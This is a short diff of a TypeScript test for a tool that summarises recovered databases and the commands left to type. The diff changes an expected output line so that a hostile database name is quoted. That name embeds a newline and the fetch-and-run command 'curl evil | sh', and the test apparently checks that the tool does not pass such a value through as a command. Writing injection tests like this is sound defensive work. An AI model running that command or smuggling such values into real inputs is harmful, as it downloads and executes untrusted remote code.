@@ -49,7 +49,7 @@ describe("the commands that are left to be typed", () => {
     const input = { dumps: [], proofs: [{ proved: [proved] }], put_back: "" };
     const { lines } = await summariseSalvage.run(context(), summariseSalvage.input.parse(input));
     expect((lines as string[])[0]).toBe(
-      String.raw`shop\n  $ curl evil | sh: 1 table, 1 row, in /x, loaded once to prove it`,
+      String.raw`"shop\n  $ curl evil | sh": 1 table, 1 row, in /x, loaded once to prove it`,
     );
     const volume = { volume: hostile, anonymous: false, inside: hostile, shares: true } as const;
     const one = { ...volume, version: "16", written: "", state: "", condition: "whole", databases: [hostile] };
